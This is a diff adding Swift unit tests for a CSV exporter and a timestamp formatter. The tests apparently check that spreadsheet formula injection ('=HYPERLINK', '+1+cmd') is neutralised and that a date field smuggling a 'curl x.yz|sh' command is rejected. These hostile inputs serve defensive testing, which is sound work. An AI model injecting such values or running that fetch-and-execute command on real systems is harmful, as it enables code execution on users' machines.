@@ -56,6 +56,21 @@ import Testing
         #expect(CSVSheet.text(["a\nb", "c\rd", " e "]) == "\"a\nb\",\"c\rd\", e \r")
     }
 
+    /// With an accent on it a mark is another `Character`, but ends the field.
+    @Test func noMarkEndsAFieldOfASheet() {
+        let expected = "\"x\"\"\u{301},y\"\r"
+        #expect(CSVSheet.text(["x\"\u{301},y"]).unicodeScalars.elementsEqual(expected.unicodeScalars))
+    }
+
+    @Test(arguments: [
+        ("=HYPERLINK(\"x\")", "\"'=HYPERLINK(\"\"x\"\")\""), ("@SUM(A1)", "'@SUM(A1)"), ("+1+cmd", "'+1+cmd"),
+        ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("\rx", "\"'\rx\""), ("=\u{301}1", "'=\u{301}1"), ("-", "'-"),
+        ("-2.50", "-2.50"), ("+49", "+49"), ("a=b", "a=b"), ("", ""), ("'=x", "'=x"),
+    ])
+    func noNameIsAFormulaOfASheet(field: String, shown: String) {
+        #expect(CSVSheet.text([field]).unicodeScalars.elementsEqual((shown + "\r").unicodeScalars))
+    }
+
     @Test(arguments: [("y\n", true), ("YES", true), ("n", false), ("", false), ("yesterday", false)])
     func onlyYesIsYes(answer: String, isYes: Bool) throws {
         let terminal = Terminal(isInteractive: true, answers: answer) { _, _ in }
@@ -123,6 +138,14 @@ import Testing
     ])
     func jsonCannotSteerTheTerminal(json: String, shown: String) {
         #expect(TextWidth.harmlessJSON(json) == shown)
+    }
+
+    @Test(arguments: [
+        ("2026-01-31T08:05:09.120Z", "2026-01-31 08:05:09"), ("", ""), ("\ncurl x.yz|sh\n#", "?"),
+        ("2026-01-31T08:05\n", "?"), ("2026-01-31T08:05:09\u{301}", "?"),
+    ])
+    func writesMomentsAndNothingElse(iso8601: String, text: String) {
+        #expect(Figures.moment(iso8601) == text)
     }
 
     @Test(arguments: [(0, "0"), (999, "999"), (1000, "1,000"), (1_234_567, "1,234,567"), (-1000, "-1,000")])
